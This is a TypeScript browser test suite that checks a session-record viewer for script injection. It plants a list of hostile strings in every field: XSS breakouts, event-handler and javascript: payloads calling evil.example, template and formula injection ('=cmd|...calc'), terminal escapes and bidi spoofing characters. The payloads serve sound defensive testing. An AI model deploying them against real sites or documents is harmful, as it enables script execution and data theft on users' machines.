import { readdir } from "node:fs/promises";
import { join } from "node:path";
import type { Browser } from "playwright-core";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import type * as z from "zod";
import { writePackage } from "../../generator/node.ts";
import { entry, SESSION_FORMAT } from "../../record/entry.ts";
import * as viewer from "../../viewer/renderer.ts";
import { temporaryFolder } from "../generator/independent.ts";
import { makeSample, type SampleEntry, type SampleSession } from "../generator/sample-source.ts";
import { hostileLines } from "../viewer/hostile.ts";
import { launchChromium } from "./chromium.ts";
import { servePackage, watchedPage } from "./served.ts";

const SPOILS = "globalThis.spoiled = true; fetch('http://evil.example/'); alert(1)";
/** Made for these pages: what breaks out of attributes, elements, scripts and styles, addresses, and very long lines. */
const MADE: readonly string[] = [
  `</script><script>${SPOILS}</script>`,
  `</style><style>@import 'http://evil.example/a.css'; body{background:url(http://evil.example/b)}</style>`,
  `</title></textarea></pre></code></template></noscript><script>${SPOILS}</script>`,
  `"><img src=http://evil.example/c onerror="${SPOILS}">`,
  `'><svg><animate onbegin='${SPOILS}' attributeName=x dur=1s>`,
  `<iframe srcdoc="<script>${SPOILS}</script>"></iframe><object data=http://evil.example/d></object>`,
  `<a href="javascript:${SPOILS}">x</a><base href="http://evil.example/"><meta http-equiv=refresh content="0;url=http://evil.example/">`,
  `<form action=http://evil.example/><button formaction=javascript:${SPOILS}>x</button></form>`,
  `{{constructor.constructor('${SPOILS}')()}} \${${SPOILS}} <%= x %> {${SPOILS}}`,
  `]]></svg><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${SPOILS}&gt;">`,
  "\u0000\u0008\u001b]8;;http://evil.example/\u0007link\u001b]8;;\u0007 \u001b[2J\u001b[1;1H\u001bPq\u001b\\ \u009b31m",
  "a\u2028b\u2029c \u202egnp.exe\u202c \u2066x\u2069 \u200b\u200d\ufeff\u00ad \u{e0041}",
  "=cmd|' /C calc'!A0;+1;-1;@SUM(1)",
];
/** A line of a megabyte; in a few fields, since browsers take their time over it. */
const LONG = `${"<b>\u001b[31m".repeat(4)}${"x".repeat(1_000_000)}`;
// A lone surrogate can't be recorded: the format refuses it. It comes as what stands in its place.
const LINES = [...MADE, ...hostileLines()].map((line) => `${line} \ud800`.toWellFormed().replaceAll("\n", " "));
const ALL = LINES.join("\n");

const text = (...fields: string[]) => Object.fromEntries(fields.map((field) => [field, ALL]));

/** The lines in every text field of every kind of entry, and in whatever the outgoing MSP types. */
const attack: SampleSession = {
  title: LINES.slice(0, 13).join(" "),
  note: ALL,
  todo: LINES.slice(0, 30),
  tags: LINES.slice(0, 13),
  endpoint: 3,
  entries: [
    {
      fields: { kind: "opened", format: SESSION_FORMAT, mode: "live" },
      text: text("subject", "organization", "client", "endpoint", "source"),
    },
    { fields: { kind: "joined", participant: "p0", role: "technician" }, text: text("name") },
    { fields: { kind: "joined", participant: "p1", role: "person" }, text: { name: LINES[0] ?? "" } },
    { fields: { kind: "context", part: "os", columns: ["name", "value"], status: "ok" }, text: text("value") },
    { fields: { kind: "context", part: "disks", columns: [], status: "failed" }, text: text("value") },
    { fields: { kind: "approval.asked", by: "p0" }, text: text("command", "reason") },
    { fields: { kind: "approval.answered", asked: 5, by: "p1", answer: "approved" }, text: text("word") },
    { fields: { kind: "command", by: "p0", shell: "bash", consent: "answered", answered: 6 }, text: text("command", "directory") },
    { fields: { kind: "output", command: 7, stream: "stdout", newline: true }, text: { output: `${ALL}\n${LONG}` } },
    { fields: { kind: "output", command: 7, stream: "stderr", newline: false }, text: text("output") },
    {
      fields: { kind: "finished", command: 7, exit: 1, end: "exited", duration: 1, cut: { stdout: 0, stderr: 0 } },
      text: { raw: `${MADE[0]}\n${MADE[3]}` },
    },
    ...LINES.slice(0, 10).map(
      (line): SampleEntry => ({
        fields: { kind: "command", by: "p0", shell: "powershell", consent: "read-only" },
        text: { command: line.slice(0, 500), directory: line },
      }),
    ),
    { fields: { kind: "chat", by: "p1" }, text: { message: `${LONG}\n${ALL}` } },
    { fields: { kind: "note", by: "p0", about: 7 }, text: text("note") },
    {
      fields: { kind: "gap", from: "2026-01-05T08:00:00.000Z", to: "2026-01-05T08:00:01.000Z", cause: "not-recorded" },
      text: text("detail"),
    },
    {
      fields: { kind: "chat", by: "p0" },
      text: { message: `${LINES[0]}\n${LINES[3]}` },
      hide: {
        message: [
          { line: 0, reason: "other", shown: LINES[0] },
          { line: 1, reason: "other", shown: LINES[3] },
        ],
      },
    },
    { fields: { kind: "closed", by: "p0", outcome: "unresolved" }, text: text("summary", "todo") },
  ] as SampleEntry[],
};

test("every text field of every kind of entry is among them", () => {
  const attacked = attack.entries.flatMap(({ fields, text: texts = {} }) =>
    Object.keys(texts).map((field) => `${fields.kind} ${field}`),
  );
  const fields = entry.options.flatMap(({ shape: { kind, text: texts } }) =>
    Object.keys((texts as z.ZodObject).shape).map((field) => `${kind.value} ${field}`),
  );
  expect(fields.length).toBeGreaterThan(16);
  expect(new Set(attacked)).toEqual(new Set(fields));
});

let browser: Browser;
let folder: Awaited<ReturnType<typeof temporaryFolder>>;
let served: Awaited<ReturnType<typeof servePackage>>;
let root: string;
let pages: string[];
let session: string;

beforeAll(async () => {
  browser = await launchChromium();
  folder = await temporaryFolder();
  root = join(folder.path, "package");
  const { source, signer } = await makeSample([attack]);
  session = source.handoff.sessions[0]?.session ?? "";
  const name = LINES.slice(0, 13).join(" ");
  const { handoff } = source;
  const hostile = {
    ...handoff,
    letter: ALL.slice(0, 190_000).toWellFormed(),
    from: { ...handoff.from, organization: name },
    to: { name },
    client: { ...handoff.client, name },
    endpoints: handoff.endpoints.map((one) => ({ ...one, name })),
    sessions: handoff.sessions.map((one) => ({ ...one, note: one.note.slice(0, 190_000).toWellFormed(), reviewedBy: name })),
  };
  hostile.sessions = hostile.sessions.map((one) => ({ ...one, todo: one.todo.map((item) => item.slice(0, 5_000).toWellFormed()) }));
  await writePackage({ ...source, handoff: hostile }, signer, root, { viewer });
  served = await servePackage(root);
  pages = (await readdir(root, { recursive: true })).filter((path) => path.endsWith(".html")).sort();
});

afterAll(async () => {
  served.close();
  await browser.close();
  await folder[Symbol.asyncDispose]();
});

describe.each(["disk", "link"] as const)("hostile text opened from the %s", (place) => {
  test("runs nothing on any page, asks nothing of anyone, and leaves no trace in the page", async () => {
    const base = place === "disk" ? `file://${root}/` : served.root;
    const { page, wrong } = await watchedPage(base, browser);
    await page.addInitScript(() => {
      addEventListener("securitypolicyviolation", (event) =>
        console.error(`policy: ${event.violatedDirective} ${event.blockedURI}`),
      );
    });
    expect(pages.length).toBeGreaterThan(12);
    await page.goto(`${base}data/help.html`);
    const known = await page.evaluate(() => Object.keys(globalThis));
    for (const path of pages) {
      await page.goto(`${base}${path}`);
      if (path === "START-HERE.html") await page.waitForURL(`${base}data/index.html`);
      await page.mouse.move(300, 300);
      const found = await page.evaluate(
        (before) => ({
          strange: document.querySelectorAll(
            "main script, main img, main iframe, main object, main style, main base, main meta, main form:not(.ask), main animate, main [onerror], main [onload], main [srcdoc], [href^='javascript' i]",
          ).length,
          away: [...document.querySelectorAll<HTMLAnchorElement>("a[href]")].filter((a) =>
            /^[a-z]+:/i.test(a.getAttribute("href") ?? ""),
          ).length,
          globals: Object.keys(globalThis).filter(
            (name) => !before.includes(name) && !/^caisey/.test(name) && Number.isNaN(Number(name)),
          ),
        }),
        known,
      );
      expect(found, path).toEqual({ strange: 0, away: 0, globals: [] });
    }
    await page.goto(`${base}data/search.html?q=alert`);
    await page.waitForSelector("#hits li");
    expect(await page.locator("#hits :is(script, img, svg, style)").count()).toBe(0);
    expect(wrong).toEqual([]);
  });
});

test("what is shown is what was recorded, with a mark for whatever can't be seen", async () => {
  const { page } = await watchedPage(`file://${root}/`, browser);
  const shown = new Map<string, string>();
  const parts = pages.filter((path) => path.includes(session));
  expect(parts.length).toBeGreaterThan(1);
  for (const path of parts) {
    await page.goto(`file://${root}/${path}`);
    const lines = await page.evaluate(() =>
      [...document.querySelectorAll<HTMLElement>(".l, .t, .timeline tr[id], .timeline dd[id], .timeline .todo li")].map((line) => {
        for (const mark of line.querySelectorAll<HTMLElement>(".ctl, .cr")) {
          mark.replaceWith(String.fromCodePoint(Number.parseInt(/U\+([0-9A-F]+)$/.exec(mark.title)?.[1] ?? "", 16)));
        }
        const cells = [...line.querySelectorAll("td")].map((cell) => cell.textContent ?? "");
        return [line.id, cells.length > 0 ? cells.join("\t") : (line.textContent ?? "").replace(/\n$/, "")] as const;
      }),
    );
    for (const [id, content] of lines) shown.set(id, content);
  }
  // biome-ignore lint/suspicious/noControlCharactersInRegex: the escape character is what this is about
  const plain = (line: string) => line.replace(/\u001b\[[0-9;:]{0,40}m/g, "");
  for (const [seq, { fields, text: texts = {}, hide }] of attack.entries.entries()) {
    if (hide !== undefined) continue;
    for (const [field, value] of Object.entries(texts)) {
      for (const [i, line] of value.split("\n").entries()) {
        const id = [`e${seq}.${field}.${i + 1}`, `e${seq}.${i + 1}`].find(
          (one) => shown.has(one) && (one.includes(field) || isMain(fields.kind, field)),
        );
        expect(id, `${fields.kind} ${field} line ${i + 1}`).toBeDefined();
        const found = plain(shown.get(id ?? "") ?? "");
        if (plain(line) !== found.replace(/\t$/, "")) expect(found, `${fields.kind} ${field} line ${i + 1}`).toBe(plain(line));
      }
    }
  }
});

/** Controls but tab and line feed, zero width, direction, tags. */
const INVISIBLE =
  "[\\u0000-\\u0008\\u000b-\\u001f\\u007f-\\u009f\\u00ad\\u200b\\u200e\\u200f\\u2028-\\u202e\\u2066-\\u2069\\ufeff\\u{e0000}-\\u{e007f}]";

/** Whether an entry's plain addresses mean this text. */
function isMain(kind: string, field: string): boolean {
  const main: Record<string, string> = {
    ...{ opened: "subject", joined: "name", context: "value", "approval.asked": "command", "approval.answered": "word" },
    ...{ command: "command", output: "output", finished: "raw", chat: "message", note: "note", gap: "detail", closed: "summary" },
  };
  return main[kind] === field;
}

test("nothing invisible or direction-changing is left to the browser", async () => {
  const { page } = await watchedPage(`file://${root}/`, browser);
  for (const path of pages.filter((one) => !one.endsWith("START-HERE.html"))) {
    await page.goto(`file://${root}/${path}`);
    const bare = await page.evaluate((invisible) => {
      const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
      const found: string[] = [];
      for (let node = walker.nextNode(); node !== null; node = walker.nextNode()) {
        const match = new RegExp(invisible, "u").exec(node.nodeValue ?? "");
        if (match !== null) found.push(`${match[0].codePointAt(0)?.toString(16)} in ${node.parentElement?.className}`);
      }
      return found.slice(0, 3);
    }, INVISIBLE);
    expect(bare, path).toEqual([]);
  }
});
